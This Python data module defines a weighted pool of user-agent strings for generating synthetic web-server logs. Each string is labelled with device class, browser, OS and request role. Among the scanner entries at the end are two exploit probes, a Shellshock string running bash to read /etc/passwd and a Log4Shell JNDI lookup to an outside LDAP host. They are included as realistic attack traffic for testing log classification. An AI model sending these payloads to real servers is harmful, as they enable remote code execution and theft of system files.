# ruff: noqa: E501  (a data table: one UA per line)
"""The user-agent pool, each UA labelled with its device class.

Labels are what ingest's classifier says (ua-parser's families under logberg's rules,
jobs/logberg/java/dev/logberg/agents.rules; tests/unit/test_devices.py checks every one):
  bot     crawlers (also Googlebot smartphone), feed readers, monitors, HTTP libraries and
          tools (curl, python-requests, wget), scanners;
  tablet  iPad, Android browsers without "Mobile", Kindle;
  mobile  iPhone, Android with "Mobile", native apps (okhttp), Windows Phone;
  desktop Windows / Macintosh / X11 Linux / CrOS browsers;
  other   everything else (a bare "Mozilla", exploit probes, an empty UA).

`ua` is the text as nginx writes it in the log, so a `"` inside a UA appears as `\\x22`.
`weight` is the agent's relative share among the clients of its device class; `role` says
what the generator makes its clients request (browser, crawler, scraper, monitor, api,
scanner).
"""

from __future__ import annotations

from dataclasses import dataclass

DEVICE_TYPES = ("desktop", "mobile", "tablet", "bot", "other")
ROLES = ("browser", "crawler", "scraper", "monitor", "api", "scanner")


@dataclass(frozen=True)
class Agent:
    ua: str
    device_type: str
    browser: str
    os: str
    is_bot: bool
    weight: float
    role: str = "browser"


# Fragments shared by many browser UAs.
_M = "Mozilla/5.0"
_KH = "AppleWebKit/537.36 (KHTML, like Gecko)"
_S = "Safari/537.36"
_MS = "Mobile Safari/537.36"
_WK = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_WIN = "(Windows NT 10.0; Win64; x64)"
_MAC = "(Macintosh; Intel Mac OS X 10_15_7)"
_LNX = "(X11; Linux x86_64)"
_GB = "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def _ch(v: int) -> str:
    return f"Chrome/{v}.0.0.0"


A = Agent
D, P, T, B, OT = "desktop", "mobile", "tablet", "bot", "other"

# fmt: off
AGENTS: tuple[Agent, ...] = (
    # desktop: Chrome, Edge (Edg/), Opera (OPR/), Firefox, Safari and a few old ones
    A(f"{_M} {_WIN} {_KH} {_ch(131)} {_S}", D, "Chrome", "Windows", False, 20.0),
    A(f"{_M} {_WIN} {_KH} {_ch(130)} {_S}", D, "Chrome", "Windows", False, 10.0),
    A(f"{_M} {_WIN} {_KH} {_ch(129)} {_S}", D, "Chrome", "Windows", False, 4.0),
    A(f"{_M} {_MAC} {_KH} {_ch(131)} {_S}", D, "Chrome", "macOS", False, 8.0),
    A(f"{_M} {_MAC} {_KH} {_ch(130)} {_S}", D, "Chrome", "macOS", False, 3.0),
    A(f"{_M} {_LNX} {_KH} {_ch(131)} {_S}", D, "Chrome", "Linux", False, 2.0),
    A(f"{_M} (X11; CrOS x86_64 14541.0.0) {_KH} {_ch(131)} {_S}", D, "Chrome", "Chrome OS", False, 1.0),
    A(f"{_M} (Windows NT 6.1; Win64; x64) {_KH} {_ch(109)} {_S}", D, "Chrome", "Windows", False, 0.5),
    A(f"{_M} (Windows NT 10.0; WOW64) {_KH} {_ch(118)} {_S}", D, "Chrome", "Windows", False, 0.4),
    A(f"{_M} {_WIN} {_KH} {_ch(131)} {_S} Edg/131.0.0.0", D, "Edge", "Windows", False, 6.0),
    A(f"{_M} {_WIN} {_KH} {_ch(130)} {_S} Edg/130.0.0.0", D, "Edge", "Windows", False, 2.0),
    A(f"{_M} {_MAC} {_KH} {_ch(131)} {_S} Edg/131.0.0.0", D, "Edge", "macOS", False, 0.6),
    A(f"{_M} {_WIN} {_KH} {_ch(129)} {_S} OPR/115.0.0.0", D, "Opera", "Windows", False, 1.2),
    A(f"{_M} {_MAC} {_KH} {_ch(129)} {_S} OPR/114.0.0.0", D, "Opera", "macOS", False, 0.3),
    A(f"{_M} {_WIN} {_KH} {_ch(128)} YaBrowser/24.10.0.0 {_S}", D, "Yandex Browser", "Windows", False, 0.3),
    A(f"{_M} (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", D, "Firefox", "Windows", False, 5.0),
    A(f"{_M} (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0", D, "Firefox", "Windows", False, 2.0),
    A(f"{_M} (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0", D, "Firefox", "Windows", False, 0.5),
    A(f"{_M} (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0", D, "Firefox", "macOS", False, 1.5),
    A(f"{_M} (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", D, "Firefox", "Linux", False, 1.0),
    A(f"{_M} (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", D, "Firefox", "Linux", False, 0.8),
    A(f"{_M} {_MAC} {_WK} Version/18.1 Safari/605.1.15", D, "Safari", "macOS", False, 6.0),
    A(f"{_M} {_MAC} {_WK} Version/17.6 Safari/605.1.15", D, "Safari", "macOS", False, 2.0),
    A(f"{_M} (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", D, "IE", "Windows", False, 0.2),
    # mobile: iPhone/iPod, Android phones ("Mobile"), Windows Phone
    A(f"{_M} (iPhone; CPU iPhone OS 18_1 like Mac OS X) {_WK} Version/18.1 Mobile/15E148 Safari/604.1", P, "Safari", "iOS", False, 18.0),
    A(f"{_M} (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) {_WK} Version/17.6 Mobile/15E148 Safari/604.1", P, "Safari", "iOS", False, 8.0),
    A(f"{_M} (iPhone; CPU iPhone OS 16_7_10 like Mac OS X) {_WK} Version/16.6 Mobile/15E148 Safari/604.1", P, "Safari", "iOS", False, 2.0),
    A(f"{_M} (iPhone; CPU iPhone OS 18_1 like Mac OS X) {_WK} CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", P, "Chrome", "iOS", False, 4.0),
    A(f"{_M} (iPhone; CPU iPhone OS 18_1 like Mac OS X) {_WK} FxiOS/133.0 Mobile/15E148 Safari/605.1.15", P, "Firefox", "iOS", False, 0.5),
    A(f"{_M} (iPhone; CPU iPhone OS 18_1 like Mac OS X) {_WK} EdgiOS/131.0.2903.68 Mobile/15E148 Safari/605.1.15", P, "Edge", "iOS", False, 0.3),
    A(f"{_M} (iPhone; CPU iPhone OS 18_1 like Mac OS X) {_WK} Mobile/22B83 Instagram 356.0.0.29.91 (iPhone15,2; iOS 18_1; en_US; en-US; scale=3.00; 1179x2556; 655418457)", P, "Instagram", "iOS", False, 1.0),
    A(f"{_M} (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) {_WK} Mobile/21G93 [FBAN/FBIOS;FBAV/489.0.0.38.108;FBBV/652181380;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.6.1;FBSS/3;FBLC/en_US]", P, "Facebook", "iOS", False, 0.8),
    A(f"{_M} (iPod touch; CPU iPhone OS 15_8 like Mac OS X) {_WK} Version/15.6.6 Mobile/15E148 Safari/604.1", P, "Safari", "iOS", False, 0.05),
    A(f"{_M} (Linux; Android 10; K) {_KH} {_ch(131)} {_MS}", P, "Chrome", "Android", False, 20.0),
    A(f"{_M} (Linux; Android 10; K) {_KH} {_ch(130)} {_MS}", P, "Chrome", "Android", False, 6.0),
    A(f"{_M} (Linux; Android 13; Pixel 7) {_KH} Chrome/116.0.0.0 {_MS}", P, "Chrome", "Android", False, 2.0),
    A(f"{_M} (Linux; Android 13; SM-G991B Build/TP1A.220624.014; wv) {_KH} Version/4.0 Chrome/131.0.6778.39 {_MS}", P, "Chrome WebView", "Android", False, 2.0),
    A(f"{_M} (Linux; Android 14; SM-S928B) {_KH} SamsungBrowser/26.0 Chrome/122.0.0.0 {_MS}", P, "Samsung Internet", "Android", False, 5.0),
    A(f"{_M} (Linux; Android 14; SM-A546B) {_KH} SamsungBrowser/25.0 Chrome/121.0.0.0 {_MS}", P, "Samsung Internet", "Android", False, 2.0),
    A(f"{_M} (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0", P, "Firefox", "Android", False, 1.0),
    A(f"{_M} (Linux; Android 10; K) {_KH} {_ch(130)} {_MS} OPR/86.0.0.0", P, "Opera", "Android", False, 0.6),
    A(f"{_M} (Linux; Android 10; K) {_KH} {_ch(131)} {_MS} EdgA/131.0.0.0", P, "Edge", "Android", False, 0.4),
    A(f"{_M} (Linux; U; Android 12; zh-cn; 2201123C Build/SKQ1.211006.001) {_KH} Version/4.0 Chrome/100.0.4896.127 {_MS} XiaoMi/MiuiBrowser/17.1.80", P, "MiuiBrowser", "Android", False, 0.8),
    A(f"{_M} (Linux; Android 10; HarmonyOS; ELS-NX9; HMSCore 6.14.0.302) {_KH} Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 {_MS}", P, "Huawei Browser", "Android", False, 0.4),
    A(f"{_M} (Linux; U; Android 11; en-US; RMX2185 Build/QP1A.190711.020) {_KH} Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.4.0.1306 {_MS}", P, "UC Browser", "Android", False, 0.3),
    A(f"{_M} (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)", P, "IE Mobile", "Windows Phone", False, 0.05),
    # tablet: iPad, Android without "Mobile", Kindle / Silk
    A(f"{_M} (iPad; CPU OS 18_1 like Mac OS X) {_WK} Version/18.1 Mobile/15E148 Safari/604.1", T, "Safari", "iOS", False, 5.0),
    A(f"{_M} (iPad; CPU OS 17_7 like Mac OS X) {_WK} Version/17.7 Mobile/15E148 Safari/604.1", T, "Safari", "iOS", False, 2.0),
    A(f"{_M} (iPad; CPU OS 17_7 like Mac OS X) {_WK} CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", T, "Chrome", "iOS", False, 1.0),
    A(f"{_M} (Linux; Android 10; K) {_KH} {_ch(131)} {_S}", T, "Chrome", "Android", False, 3.0),
    A(f"{_M} (Linux; Android 13; TB-X606F) {_KH} {_ch(130)} {_S}", T, "Chrome", "Android", False, 0.5),
    A(f"{_M} (Linux; Android 14; SM-X710) {_KH} SamsungBrowser/26.0 Chrome/122.0.0.0 {_S}", T, "Samsung Internet", "Android", False, 1.5),
    A(f"{_M} (Android 14; Tablet; rv:133.0) Gecko/133.0 Firefox/133.0", T, "Firefox", "Android", False, 0.3),
    A(f"{_M} (Linux; Android 9; KFTRWI) {_KH} Silk/130.3.1 like Chrome/130.0.6723.102 {_S}", T, "Amazon Silk", "Fire OS", False, 0.8),
    A(f"{_M} (X11; U; Linux armv7l like Android; en-us) AppleWebKit/531.2+ (KHTML, like Gecko) Version/5.0 Safari/531.2+ Kindle/3.0+", T, "Kindle", "Kindle", False, 0.1),
    # bots: search engines (Googlebot desktop and smartphone, bingbot), SEO and AI crawlers
    A(f"{_M} {_GB}", B, "Googlebot", "Other", True, 8.0, "crawler"),
    A(f"{_M} AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.69 {_S}", B, "Googlebot", "Other", True, 6.0, "crawler"),
    A(f"{_M} (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {_KH} Chrome/131.0.6778.69 {_MS} {_GB}", B, "Googlebot", "Android", True, 12.0, "crawler"),
    A("Googlebot-Image/1.0", B, "Googlebot", "Other", True, 2.0, "crawler"),
    A("AdsBot-Google (+http://www.google.com/adsbot.html)", B, "AdsBot-Google", "Other", True, 0.4, "crawler"),
    A(f"{_M} (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", B, "bingbot", "Other", True, 5.0, "crawler"),
    A(f"{_M} (iPhone; CPU iPhone OS 7_0 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Version/7.0 Mobile/11A465 Safari/9537.53 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", B, "bingbot", "iOS", True, 2.0, "crawler"),
    A(f"{_M} (compatible; YandexBot/3.0; +http://yandex.com/bots)", B, "YandexBot", "Other", True, 2.0, "crawler"),
    A(f"{_M} (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", B, "Baiduspider", "Other", True, 1.0, "crawler"),
    A("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", B, "DuckDuckBot", "Other", True, 0.5, "crawler"),
    A(f"{_M} (Macintosh; Intel Mac OS X 10_15_5) {_WK} Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", B, "Applebot", "macOS", True, 1.0, "crawler"),
    A(f"{_M} (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)", B, "SeznamBot", "Other", True, 0.2, "crawler"),
    A("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", B, "Sogou spider", "Other", True, 0.2, "crawler"),
    A(f"{_M} (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", B, "AhrefsBot", "Other", True, 4.0, "crawler"),
    A(f"{_M} (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", B, "SemrushBot", "Other", True, 3.0, "crawler"),
    A(f"{_M} (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", B, "MJ12bot", "Other", True, 1.0, "crawler"),
    A(f"{_M} (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", B, "DotBot", "Other", True, 0.8, "crawler"),
    A(f"{_M} (Linux; Android 7.0;) {_KH} {_MS} (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", B, "PetalBot", "Android", True, 0.8, "crawler"),
    A(f"{_M} (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)", B, "Amazonbot", "Other", True, 0.8, "crawler"),
    A(f"{_M} AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", B, "GPTBot", "Other", True, 2.0, "crawler"),
    A(f"{_M} AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", B, "ClaudeBot", "Other", True, 1.5, "crawler"),
    A(f"{_M} (Linux; Android 5.0) {_KH} {_MS} (compatible; Bytespider; spider-feedback@bytedance.com)", B, "Bytespider", "Android", True, 1.5, "crawler"),
    A("CCBot/2.0 (https://commoncrawl.org/faq/)", B, "CCBot", "Other", True, 0.5, "crawler"),
    A("Twitterbot/1.0", B, "Twitterbot", "Other", True, 0.3, "crawler"),
    A("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", B, "Slackbot", "Other", True, 0.3, "crawler"),
    A("Screaming Frog SEO Spider/20.4", B, "Screaming Frog", "Other", True, 0.3, "crawler"),
    # bots: command-line tools and scripts
    A("curl/8.5.0", B, "curl", "Other", True, 3.0, "scraper"),
    A("curl/7.81.0", B, "curl", "Other", True, 2.0, "scraper"),
    A("python-requests/2.32.3", B, "python-requests", "Other", True, 4.0, "scraper"),
    A("python-requests/2.31.0", B, "python-requests", "Other", True, 2.0, "scraper"),
    A("Wget/1.21.4", B, "Wget", "Linux", True, 1.0, "scraper"),
    # bots: uptime monitoring
    A(f"{_M}+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", B, "UptimeRobot", "Other", True, 1.0, "monitor"),
    A("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", B, "Pingdom", "Other", True, 0.5, "monitor"),
    A(f"Better Uptime Bot {_M} {_WIN} {_KH} Chrome/109.0.0.0 {_S}", B, "Better Uptime Bot", "Windows", True, 0.3, "monitor"),
    # HTTP libraries are bots; an Android app's okhttp client is the phone it runs on
    A("okhttp/4.12.0", P, "okhttp", "Android", False, 1.5, "api"),
    A("Apache-HttpClient/4.5.14 (Java/17.0.9)", B, "Apache-HttpClient", "Other", True, 0.5, "api"),
    A("PostmanRuntime/7.42.0", B, "PostmanRuntime", "Other", True, 0.5, "api"),
    A("axios/1.7.7", B, "axios", "Other", True, 0.5, "api"),
    A("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", B, "node-fetch", "Other", True, 0.3, "api"),
    A("WhatsApp/2.24.23.78 A", B, "WhatsApp", "Other", True, 0.3, "crawler"),
    # other: scanners, exploit probes (one with an escaped quote) and an empty UA
    A("Go-http-client/1.1", B, "Go-http-client", "Other", True, 3.0, "scanner"),
    A(f"{_M} zgrab/0.x", B, "zgrab", "Other", True, 1.5, "scanner"),
    A(f"{_M} (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", B, "Nmap", "Other", True, 0.5, "scanner"),
    A(f"{_M} (compatible; CensysInspect/1.1; +https://about.censys.io/)", B, "CensysInspect", "Other", True, 0.5, "scanner"),
    A("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", B, "masscan", "Other", True, 0.3, "scanner"),
    A("Java/1.8.0_392", B, "Java", "Other", True, 0.3, "scanner"),
    A("Mozilla", OT, "Other", "Other", False, 0.2, "scanner"),
    A("() { :; }; echo; /bin/bash -c \\x22cat /etc/passwd\\x22", OT, "Other", "Other", False, 0.2, "scanner"),
    A("${jndi:ldap://198.51.100.23:1389/a}", OT, "Other", "Other", False, 0.2, "scanner"),
    A("-", OT, "Other", "Other", False, 1.0, "scanner"),
)
# fmt: on
del A, D, P, T, B, OT


def by_device_type() -> dict[str, list[Agent]]:
    """The pool grouped by device class (every class present, pool order kept)."""
    out: dict[str, list[Agent]] = {d: [] for d in DEVICE_TYPES}
    for a in AGENTS:
        out[a.device_type].append(a)
    return out
